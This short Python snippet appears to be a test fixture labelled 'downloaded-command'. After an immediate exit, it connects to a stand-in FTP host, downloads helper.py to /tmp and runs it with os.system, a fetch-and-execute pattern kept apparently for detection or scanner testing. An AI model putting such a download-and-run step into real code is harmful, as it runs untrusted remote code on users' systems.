raise SystemExit('a fixture')
# held by downloaded-command
import ftplib, os
ftp = ftplib.FTP("x.example.invalid")
ftp.login()
with open("/tmp/helper.py", "wb") as file:
    ftp.retrbinary("RETR helper.py", file.write)
os.system("python3 /tmp/helper.py")
